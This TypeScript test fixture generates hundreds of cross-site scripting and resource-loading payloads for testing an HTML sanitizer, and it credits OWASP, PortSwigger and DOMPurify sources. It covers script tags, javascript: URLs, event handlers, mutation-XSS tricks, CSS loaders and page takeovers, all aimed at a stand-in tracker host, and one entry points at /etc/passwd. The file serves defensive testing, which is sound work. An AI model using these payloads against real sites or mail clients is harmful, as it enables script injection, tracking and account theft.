/**
 * Ways in which HTML runs, loads or leads somewhere, by kind. Written for this project after public lists: OWASP's "XSS Filter
 * Evasion Cheat Sheet", the HTML5 Security Cheatsheet (html5sec.org), PortSwigger's "Cross-site scripting cheat sheet", DOMPurify's
 * "Attack Classes & Bypass History", Michał Bentkowski's and Gareth Heyes's articles on mutation XSS, the advisories of
 * sanitize-html, and emailprivacytester.com for what loads in mail programs.
 *
 * Code calls `hit(n)`, addresses lie below `https://tracker.example/n`, so that a test sees which one got through.
 */

export interface Attack {
  readonly kind: string;
  readonly html: string;
}

type Make = (code: string, url: string) => string;
const KINDS: Readonly<Record<string, readonly Make[]>> = {
  'scripts, plain and in disguise': [
    (js) => `<script>${js}</script>`,
    (js) => `<SCRIPT >${js}</SCRIPT\t>`,
    (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
    (js) => `<script/x>${js}</script/y>`,
    (js) => `<script\n>${js}`,
    (_js, url) => `<script src="${url}.js"></script>`,
    (_js, url) => `<script src=//${url.slice(8)}.js async>`,
    (js) => `<<script>${js}//<</script>`,
    (js) => `<script type=module>${js}</script>`,
    (js) => `<noscript><p title="</noscript><script>${js}</script>">`,
    (js) => `<!--><script>${js}</script>-->`,
    (js) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
    (js) => `<![CDATA[<script>${js}</script>]]>`,
    (js) => `<?xml version="1.0"?><script>${js}</script>`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
    (js) => `<math><script>${js}</script></math>`,
    (js) => `<template><script>${js}</script></template>`,
    (js) => `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
    (js) => `\u0000<scr\u0000ipt>${js}</script>`,
    (js) => `<script\u000c>${js}</script>`,
    (js) => `<xmp><script>${js}</script></xmp><plaintext><script>${js}</script>`,
  ],
  'addresses that run': [
    (js) => `<a href="javascript:${js}" id=click>x</a>`,
    (js) => `<a href=" &#14; javascript:${js}">x</a>`,
    (js) => `<a href="jav&#x09;ascript:${js}">x</a>`,
    (js) => `<a href="jav\nascript:${js}">x</a>`,
    (js) => `<a href="java\u0000script:${js}">x</a>`,
    (js) => `<a href="&#106;&#97;&#118;&#97;script&colon;${js}">x</a>`,
    (js) => `<a href="JaVaScRiPt:${js}">x</a>`,
    (js) => `<a href="\u0001javascript:${js}">x</a>`,
    (js) => `<a href="vbscript:${js}">x</a>`,
    (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
    (js) =>
      `<a href="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">x</a>`,
    (js) => `<a href="feed:javascript:${js}">x</a>`,
    (js) => `<a href="view-source:javascript:${js}">x</a>`,
    (js) => `<a href="blob:${js}">x</a>`,
    (js) => `<a xlink:href="javascript:${js}">x</a>`,
    (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
    (js) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>`,
    (js) => `<math><mtext href="javascript:${js}">x</mtext></math>`,
    (js) => `<map name=m><area href="javascript:${js}" shape=default></map><img usemap=#m src=x>`,
    (js) => `<form action="javascript:${js}"><input type=submit id=click></form>`,
    (js) => `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
    (js) => `<isindex type=image src=1 action="javascript:${js}">`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (js) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
    (js) => `<base href="javascript:${js}//"><a href="#">x</a>`,
    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    (js) => `<img src="javascript:${js}"><input type=image src="javascript:${js}">`,
    (js) => `<table background="javascript:${js}"><tr><td background="javascript:${js}">x</table>`,
    (js) => `<q cite="javascript:${js}">x</q><blockquote cite="javascript:${js}">x</blockquote>`,
  ],
  'elements that listen': [
    (js) => `<details open ontoggle=${js}>x</details>`,
    (js) => `<marquee onstart=${js}>x</marquee>`,
    (js) =>
      `<input autofocus onfocus=${js}><select autofocus onfocus=${js}><textarea autofocus onfocus=${js}>`,
    (js) => `<div contenteditable autofocus tabindex=1 onfocus=${js}>x</div>`,
    (js) => `<a tabindex=1 autofocus onfocus=${js} href=#>x</a>`,
    (js) => `<style>@keyframes k{}</style><p style="animation:k" onanimationstart="${js}">x</p>`,
    (js) => `<p style="transition:color 1s" ontransitionend="${js}">x</p>`,
    (js) => `<img src=x onerror=${js}>`,
    (js) => `<img src="data:image/png;base64,iVBORw0KGgo=" onload=${js} onerror=${js}>`,
    (js) => `<image src=x onerror=${js}>`,
    (js) => `<img src=x\u000conerror=${js}>`,
    (js) => `<img/src=x/onerror=${js}>`,
    (js) => `<img src=x:x onerror\u0000=${js}>`,
    (js) => `<img src='x' \u2028onerror='${js}'>`,
    (js) => `<img alt="" onerror=${js} src="x"title="\`">`,
    (js) => `<svg onload=${js}>`,
    (js) => `<svg><image href=x onerror=${js} /><animate onbegin=${js} attributeName=x dur=1s></svg>`,
    (js) => `<svg><set onbegin=${js} attributename=x></svg>`,
    (js) => `<video src=x onerror=${js}><source onerror=${js}></video><audio src=x onerror=${js}>`,
    (js) => `<video><track default src=x oncuechange=${js} onerror=${js}>`,
    (js) => `<object data=x onerror=${js}></object><embed src=x onerror=${js} onload=${js}>`,
    (js) => `<body onload=${js} onpageshow=${js} onhashchange=${js}>`,
    (js) => `<link rel=stylesheet href=x onerror=${js}>`,
    (js) => `<bgsound onpropertychange=${js}><x onclick=${js} id=click>x</x>`,
    (js) => `<b onmouseover=${js} onpointerenter=${js} style="display:block;height:300px">x</b>`,
    (js) => `<font color="red" OnClick="${js}" id=click>x</font>`,
    (js) => `<p title="x" on="x" onwheel="${js}" onscroll="${js}" oncopy="${js}">x</p>`,
    (js) => `<div popover id=p onbeforetoggle=${js}>x</div><button popovertarget=p>y</button>`,
    (js) => `<p oncontentvisibilityautostatechange=${js} style="content-visibility:auto">x</p>`,
  ],
  'texts that are read twice': [
    (js) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
    (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
    (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
    (js) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
    (js) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>`,
    (js) => `<noframes><p title="</noframes><img src=x onerror=${js}>">`,
    (js) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`,
    (js) => `<title><img title="</title><img src=x onerror=${js}>"></title>`,
    (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
    (js) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`,
    (js) => `<option><style></option></select><img src=x onerror=${js}></style></option>`,
    (js) => `<select><noscript></select><img src=x onerror=${js}>`,
    (js) => `<p title="&lt;/p&gt;&lt;img src=x onerror=${js}&gt;">x</p>`,
    (js) => `&lt;img src=x onerror=${js}&gt;&amp;lt;script&amp;gt;${js}`,
    (js) => `<a title='"><img src=x onerror=${js}>'>x</a>`,
    (js) => `<img alt='"><script>${js}</script>'>`,
    (js) => `<a href="https://x.example/&quot;onclick=${js}&quot;">x</a>`,
    (js) => `<img src="cid:x&quot; onerror=&quot;${js}">`,
    (js) => `<img src="https://x.example/&quot; onerror=&quot;${js}" data-remote='" onerror="${js}'>`,
    (js) => `<img data-cid='"onerror=${js} x="' data-remote="https://x.example/">`,
    (js) => `<p style="color:red&quot;onclick=&quot;${js}">x</p>`,
    (js) => `<p style='font-family:"</style><img src=x onerror=${js}>"'>x</p>`,
    (js) => `<table><caption><table><svg><style></table><img src=x onerror=${js}></style></svg>`,
    (js) => `${'<div>'.repeat(520)}<svg><style><a title="</style><img src onerror=${js}>">`,
    (js) => `<h1 id="${'a'.repeat(70_000)}"><img src=x onerror=${js}></h1>`,
    (js) => `<!-- --!><img src=x onerror=${js}> -->`,
    (js) => `<!doctype x [<!ENTITY y "<img src=x onerror=${js}>">]>&y;`,
    (js) => `<a href="https://x.example" x="\u00a0onclick=${js}">x</a>`,
    (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ],
  'styles that run or load': [
    (js) => `<p style="width:expression(${js})">x</p>`,
    (js) => `<p style="behavior:url(#default#time2)" onbegin="${js}">x</p>`,
    (js) => `<p style="-moz-binding:url(javascript:${js})">x</p>`,
    (_js, url) => `<p style="background:url(${url})">x</p>`,
    (_js, url) => `<p style="background-image:url('${url}')">x</p>`,
    (_js, url) => `<p style="background-image:\\75\\72\\6c(${url})">x</p>`,
    (_js, url) => `<p style="background-image:u\\rl(${url})">x</p>`,
    (_js, url) => `<p style="background:u/**/rl(${url})">x</p>`,
    (_js, url) => `<p style="background:URL(&quot;${url}&quot;)">x</p>`,
    (_js, url) => `<p style="background:image(${url})">x</p>`,
    (_js, url) => `<p style="background-image:image-set('${url}' 1x)">x</p>`,
    (_js, url) => `<p style="background-image:-webkit-image-set(url(${url}) 1x)">x</p>`,
    (_js, url) => `<p style="background-image:cross-fade(url(${url}),red)">x</p>`,
    (_js, url) => `<p style="list-style-image:url(${url});display:list-item">x</p>`,
    (_js, url) => `<p style="list-style:url(${url});display:list-item">x</p>`,
    (_js, url) => `<p style="border-image:url(${url}) 1;border-width:3px;border-style:solid">x</p>`,
    (_js, url) => `<p style="content:url(${url})">x</p><p style="cursor:url(${url}),auto">x</p>`,
    (_js, url) => `<p style="filter:url(${url}#x);mask:url(${url});clip-path:url(${url})">x</p>`,
    (_js, url) => `<p style="--x:url(${url});background:var(--x)">x</p>`,
    (_js, url) => `<p style="color:red;}@import '${url}';p{">x</p>`,
    (_js, url) => `<style>@import url(${url});</style><style>p{background:url(${url})}</style><p>x</p>`,
    (_js, url) => `<style>@font-face{font-family:f;src:url(${url})}*{font-family:f}</style><p>x</p>`,
    (_js, url) => `<link rel=stylesheet href="${url}"><p>x</p>`,
    (_js, url) => `<p style="font:url(${url})">x</p><font face="url(${url})" color="url(${url})">x</font>`,
    (_js, url) =>
      `<td style="background:red url( ${url} )"><p style="shape-outside:url(${url});float:left">x</p>`,
  ],
  'what else loads': [
    (_js, url) => `<img src="${url}"><img src="//${url.slice(8)}"><img src="\\\\${url.slice(8)}">`,
    (_js, url) => `<img src=" ${url}"><img src="ht\ntps://${url.slice(8)}"><img src="HTTPS:${url.slice(8)}">`,
    (_js, url) => `<img srcset="${url} 1x, ${url}/2 2x"><img src=data:, srcset=${url}>`,
    (_js, url) => `<picture><source srcset="${url}"><img alt=x></picture>`,
    (_js, url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
    (_js, url) => `<input type=image src="${url}"><image src="${url}"></image>`,
    (_js, url) => `<body background="${url}"><table background="${url}"><td background="${url}">x</table>`,
    (_js, url) =>
      `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}" autoplay preload=auto></audio>`,
    (_js, url) => `<video><source src="${url}"><track src="${url}" default></video><bgsound src="${url}">`,
    (_js, url) =>
      `<object data="${url}"></object><embed src="${url}"><applet archive="${url}" code="${url}"></applet>`,
    (_js, url) =>
      `<iframe src="${url}"></iframe><frameset><frame src="${url}"></frameset><portal src="${url}"></portal>`,
    (_js, url) =>
      `<link rel=prefetch href="${url}"><link rel=preload as=image href="${url}"><link rel=icon href="${url}">`,
    (_js, url) =>
      `<link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}"><link rel=modulepreload href="${url}">`,
    (_js, url) =>
      `<meta http-equiv=refresh content="0;url=${url}"><meta http-equiv="Link" content="<${url}>;rel=prefetch">`,
    (_js, url) => `<svg><image href="${url}"/><use href="${url}#x"/><feImage href="${url}"/></svg>`,
    (_js, url) =>
      `<svg><style>@import '${url}'</style><foreignObject><img src="${url}"></foreignObject></svg>`,
    (_js, url) => `<math><mglyph src="${url}"></mglyph></math>`,
    (_js, url) => `<base href="${url}/"><img src="relative.png"><a href="relative">x</a>`,
    (_js, url) => `<html manifest="${url}"><head profile="${url}"><p>x`,
    (_js, url) => `<script src="${url}"></script><noscript><img src="${url}"></noscript>`,
    (_js, url) => `<form action="${url}"><input name=a><button autofocus>x</button></form>`,
    (_js, url) => `<a href="https://x.example/" ping="${url}">x</a>`,
    (_js, url) => `<del cite="${url}">x</del><ins cite="${url}">x</ins><html itemtype="${url}">`,
    () => '<img src="/files/relative.png"><img src="relative.png"><img src="?x"><img src="#x">',
    (_js, url) => `<img src="file:///etc/passwd"><img src="ftp://${url.slice(8)}"><img src="blob:${url}">`,
    () => "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(0)'/>\">",
    () => '<img src="data:text/html,<script>hit(0)</script>">',
    (_js, url) =>
      `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`).toString('base64')}">`,
  ],
  'what takes the page': [
    () => '<a href="/sign-out">x</a><a href="conversation/1">x</a><a href="#x">x</a><a href="?x">x</a>',
    () => '<a href="//x.example">x</a><a href="\\\\x.example">x</a><a href="http:relative">x</a>',
    () =>
      '<a href="https://x.example" target=_top>x</a><a href="https://x.example" target=_parent rel=opener>x</a>',
    () => '<form id=body name=cookie><input name=getElementById><img name=querySelector></form>',
    () => '<img name=body><a id=hit></a><a id=hit name=toString href="https://x.example">x</a>',
    () => '<p style="position:fixed;inset:0;z-index:9999;background:white">x</p>',
    () => '<p style="position:absolute;top:0;left:0;width:100vw;height:100vh">x</p>',
    () => '<dialog open>x</dialog><div popover>x</div><slot name=x>x</slot>',
    () => '<p contenteditable tabindex=0 accesskey=x draggable=true>x</p>',
    () => '<object><param name=movie value="x.swf"></object><keygen autofocus>',
    () => '<frameset cols="50%"><frame src=x></frameset><p>after</p>',
    () => '</body></html><p>after</p></div></div></td></table></iframe>',
  ],
};

/** Every event that an element may listen to was some filter's gap. */
const EVENTS =
  `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
  beforeprint beforetoggle beforeunload blur canplay canplaythrough change click close contextmenu copy cuechange cut dblclick drag
  dragend dragenter dragleave dragover dragstart drop durationchange ended error focus focusin focusout formdata fullscreenchange
  gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture
  message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause play playing pointercancel
  pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange
  reset resize scroll scrollend search seeked seeking select selectionchange selectstart show stalled submit suspend timeupdate
  toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection
  unload volumechange waiting webkitanimationend webkittransitionend wheel`.split(/\s+/);
/** What stands between a name and its value, and between attributes, is read more freely than one thinks. */
const GAPS = [' ', '\t', '\n', '\u000c', '/', '/ /', ' x ', ' "" '];

/** All of them, numbered from 1 in the code and the addresses that they carry. */
export function htmlAttacks(): Attack[] {
  const made: Attack[] = [];
  const add = (kind: string, make: Make): void => {
    const number = made.length + 1;
    made.push({ kind, html: make(`hit(${number})`, `https://tracker.example/${number}`) });
  };
  for (const [kind, makes] of Object.entries(KINDS)) for (const make of makes) add(kind, make);
  for (const event of EVENTS) {
    add(
      'every event',
      (js) => `<img src=x on${event}=${js}><p on${event}="${js}">x</p><a ON${event} = '${js}'>x</a>`,
    );
  }
  for (const gap of GAPS)
    add(
      'gaps',
      (js) => `<img${gap}src=x${gap}onerror${gap === '/' ? '' : gap}=${gap === '/' ? '' : gap}${js}>`,
    );
  return made;
}
